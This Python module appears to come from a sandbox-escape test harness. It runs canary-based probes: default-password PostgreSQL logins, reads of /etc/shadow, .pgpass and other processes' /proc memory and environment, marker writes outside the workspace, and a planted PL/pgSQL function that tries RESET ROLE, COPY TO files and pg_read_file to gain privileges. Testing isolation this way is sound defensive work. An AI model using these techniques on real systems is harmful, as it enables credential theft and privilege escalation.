"""What the submissions of the hostile corner share: ways to try, and ways to tell what was gained.

It is copied to `app/` of the workspace. Every try ends by itself within seconds, writes only marker files,
and reads only files that hold a canary. Where something real is tried, such as /etc, an unnamed file is
opened there (O_TMPFILE) that is gone when it is closed, or signal URG is sent, which is ignored by default.
"""

import json
import os
import re
import select
import site
import subprocess
import sys
import threading
import time
from contextlib import closing, suppress
from pathlib import Path

FACTS = json.loads("@FACTS@")
TOKEN = FACTS["token"]
OUTSIDE = Path(FACTS["outside"])
WORKSPACE = Path(FACTS["workspace"])
CANARY = re.compile(rb"CANARY-" + TOKEN.encode() + rb"-\w+")
CONSTANTS = ("lab", "postgres", "device_service", "workflow_service", os.environ.get("USER", "root"))
"""Roles whose password may be their name."""

_told = set()


def gained(what):
    """Tell it on standard output, in the table hostile_gains, and in a file outside."""
    _tell(f"GAINED {what}")
    with suppress(Exception), (OUTSIDE / "gains").open("a") as file:
        file.write(what + "\n")


def tried(what):
    """Tell that the submission's code was run, so that a test which sees no gain proves something."""
    _tell(f"TRIED {what}")


def _tell(line):
    line = " ".join(line.split())[:300]
    if line in _told:
        return
    _told.add(line)
    with suppress(Exception):
        print(line, flush=True)
    with suppress(Exception), closing(own()) as connection, connection.cursor() as cursor:
        with suppress(Exception):
            cursor.execute("CREATE TABLE IF NOT EXISTS public.hostile_gains (line text)")
        cursor.execute("INSERT INTO public.hostile_gains VALUES (%s)", (line,))


def in_background(function, *arguments):
    threading.Thread(target=function, args=arguments, daemon=True).start()


def report():
    """In a service: tell what was gained in the database, before its start and while it runs."""
    in_background(_report)


def _report():
    with suppress(Exception), closing(own()) as connection, connection.cursor() as cursor:
        cursor.execute("SELECT to_regclass('public.hostile_gains') IS NOT NULL")
        if cursor.fetchone() != (True,):
            return
        cursor.execute("LISTEN hostile")
        cursor.execute("SELECT line FROM public.hostile_gains")
        for (line,) in cursor.fetchall():
            print(line, flush=True)
        end = time.monotonic() + 240
        while time.monotonic() < end:
            select.select([connection], [], [], 5)
            connection.poll()
            while connection.notifies:
                print(connection.notifies.pop(0).payload, flush=True)


# The database.


def own_url():
    return os.environ.get("LAB_DATABASE_URL") or os.environ.get("DATABASE_URL") or ""


def own():
    """A connection as this process was given it."""
    import psycopg2

    connection = psycopg2.connect(own_url().replace("+psycopg2", ""), connect_timeout=3)
    connection.autocommit = True
    return connection


def login(user, password, database):
    """A connection to another database or as another role, at the server that this process was given."""
    import psycopg2

    given = psycopg2.extensions.parse_dsn(own_url().replace("+psycopg2", ""))
    connection = psycopg2.connect(
        host=given.get("host", "127.0.0.1"),
        port=given.get("port", 5432),
        user=user or given.get("user"),
        password=password or given.get("password"),
        dbname=database or given.get("dbname"),
        connect_timeout=3,
    )
    connection.autocommit = True
    return connection


def logins():
    """Connections by the role that was given and by constant passwords, to all databases by their names."""
    given = own_url()
    secret = given.partition("://")[2].partition("@")[0].partition(":")[2]
    users = [(None, None), *((name, name) for name in CONSTANTS), *((name, secret) for name in CONSTANTS)]
    databases = [None, "lab", "postgres", "template1", FACTS["live_database"], FACTS["template"]]
    for user, password in users:
        for database in dict.fromkeys(databases):
            with suppress(Exception):
                connection = login(user, password, database)
                with closing(connection):
                    yield f"{user or 'its role'} on {database or 'its database'}", connection


def execute(connection, statement, *values):
    """The first column of the first row, or None. Raises psycopg2.Error."""
    with connection.cursor() as cursor:
        cursor.execute(statement, values or None)
        row = cursor.fetchone() if cursor.description else None
        return row[0] if row else None


def succeeds(connection, statement, *values):
    try:
        execute(connection, statement, *values)
    except Exception:
        return False
    return True


def is_live(connection):
    """Whether it is the lab's live database: a measurement's copy has no row with a canary."""
    return bool(execute(connection, "SELECT to_regclass('canaries') IS NOT NULL"))


def look_for_live(place):
    """Read the row with the canary, and change a row, in the live database."""
    for name, connection in logins():
        with suppress(Exception):
            if execute(connection, "SELECT rolsuper FROM pg_roles WHERE rolname = current_user"):
                gained(f"{place}: superuser as {name}")
        with suppress(Exception):
            if is_live(connection):
                gained(f"{place}: reached the live database as {name}")
                found = execute(connection, "SELECT secret FROM canaries")
                gained(f"{place}: {found}")
        with suppress(Exception):
            if is_live(connection):
                execute(
                    connection,
                    "UPDATE devices SET name = name || '!' WHERE id = (SELECT min(id) FROM devices)",
                )
                gained(f"{place}: changed a row of the live database as {name}")


# Files.


def canary_in(content, where):
    for found in set(CANARY.findall(content)):
        gained(f"{where}: {found.decode()}")


def read(path, where):
    with suppress(OSError), open(path, "rb") as file:
        canary_in(file.read(2**20), f"{where} read {path}")


def read_outside(where):
    """The canaries' files by their paths, and a file that only root may read."""
    home = Path(os.path.expanduser("~"))
    for path in [*FACTS["canaries"], home / ".canary", home / ".pgpass", "/root/.canary", "/tmp/.canary"]:
        read(path, where)
    with suppress(OSError), open("/etc/shadow", "rb") as file:
        if file.read(1):
            gained(f"{where}: can read /etc/shadow")
    for path in FACTS["folders"]:
        with suppress(OSError):
            if os.listdir(path):
                gained(f"{where}: can list {path}")


def write_outside(where):
    """A marker in each folder that stands for a place outside, and an unnamed file in each real place."""
    for folder in FACTS["folders"]:
        with suppress(OSError):
            marker = Path(folder) / f"marker-{TOKEN}-{os.getpid()}"
            marker.write_text(where)
            if os.stat(folder).st_ino == FACTS["places"].get(folder, [0, 0])[1]:
                gained(f"{where}: wrote {marker}")
    for folder, (device, inode) in FACTS["places"].items():
        with suppress(OSError):
            seen = os.stat(folder)
            if (seen.st_dev, seen.st_ino) == (device, inode):
                os.close(os.open(folder, os.O_TMPFILE | os.O_WRONLY, 0o600))
                gained(f"{where}: can make a file in {folder}")


def packages():
    """The folders from which Python imports its site, a .pth or a sitecustomize in them runs everywhere."""
    return [*site.getsitepackages(), site.getusersitepackages()]


# Other processes.


def others():
    """The ids of the processes that this one can see, but its own."""
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def is_labs(process):
    """Whether it is the command `lab` of this test, or a process that it started with its environment."""
    with suppress(OSError):
        environment = Path(f"/proc/{process}/environ").read_bytes()
        return f"HOSTILE={TOKEN}".encode() in environment
    return False


def read_processes(where):
    """Passwords and canaries in the environment, command line, memory and open files of other processes."""
    canary_in(b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items()), f"{where} own environment")
    for number in ["self", *others()]:
        for name in ("environ", "cmdline"):
            read(f"/proc/{number}/{name}", where)
        with suppress(OSError):
            for opened in os.listdir(f"/proc/{number}/fd"):
                target = os.readlink(f"/proc/{number}/fd/{opened}")
                if target in FACTS["canaries"] or "canary" in target:
                    read(f"/proc/{number}/fd/{opened}", where)
        if number != "self" and is_labs(number):
            gained(f"{where}: sees lab's process {number}")


def look_around(where):
    """All that a process without a wall would gain; bounded to a second or two."""
    tried(where)
    for attempt in (read_outside, write_outside, read_processes, look_for_live):
        with suppress(Exception):
            attempt(where)


def start(program, *arguments, **options):
    """Start a process that a test can tell by its environment and its command line."""
    environment = {**os.environ, "HOSTILE": TOKEN}
    return subprocess.Popen(
        [sys.executable, "-c", program, f"hostile-{TOKEN}", *arguments], env=environment, **options
    )


# For migrations: what runs with the rights of whoever touches a table afterwards.

TRY = f"""
CREATE TABLE IF NOT EXISTS public.hostile_gains (line text);
GRANT ALL ON public.hostile_gains TO PUBLIC;
CREATE OR REPLACE FUNCTION public.hostile_try(place text) RETURNS boolean LANGUAGE plpgsql AS $try$
DECLARE
    was text := current_user;
    line text;
    content text;
BEGIN
    IF coalesce(current_setting('hostile.told', true), '') OPERATOR(pg_catalog.~~) ('%' || place || '%') THEN
        RETURN true;
    END IF;
    PERFORM pg_catalog.set_config(
        'hostile.told', pg_catalog.concat(current_setting('hostile.told', true), ' ', place), false);
    BEGIN
        RESET ROLE;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        SET SESSION AUTHORIZATION DEFAULT;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    FOR line IN
        SELECT pg_catalog.concat('GAINED ', rolname, ' of ', session_user, ' by ', place)
          FROM pg_catalog.pg_roles
         WHERE (rolname OPERATOR(pg_catalog.=) current_user AND rolsuper)
            OR (rolname::text OPERATOR(pg_catalog.=) ANY (ARRAY['pg_execute_server_program',
                    'pg_read_server_files', 'pg_write_server_files', 'pg_signal_backend'])
                AND pg_catalog.pg_has_role(current_user, oid, 'USAGE'))
    LOOP
        BEGIN
            INSERT INTO public.hostile_gains VALUES (line);
            PERFORM pg_catalog.pg_notify('hostile', line);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
            EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L', line, '{OUTSIDE}/server-' || place);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
            content := pg_catalog.pg_read_file('{FACTS["canaries"][0]}');
            INSERT INTO public.hostile_gains VALUES ('GAINED ' || content);
            PERFORM pg_catalog.pg_notify('hostile', 'GAINED ' || content);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    IF was OPERATOR(pg_catalog.<>) current_user THEN
        BEGIN
            EXECUTE pg_catalog.format('SET ROLE %I', was);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END IF;
    RETURN true;
END $try$;
"""


def plant(place, *statements):
    """As the owner: make `hostile_try`, then each statement for itself."""
    tried(place)
    with closing(own()) as connection:
        for statement in (TRY, *statements):
            try:
                execute(connection, statement)
            except Exception as error:
                tried(f"{place}, refused: {str(error).splitlines()[0]}")
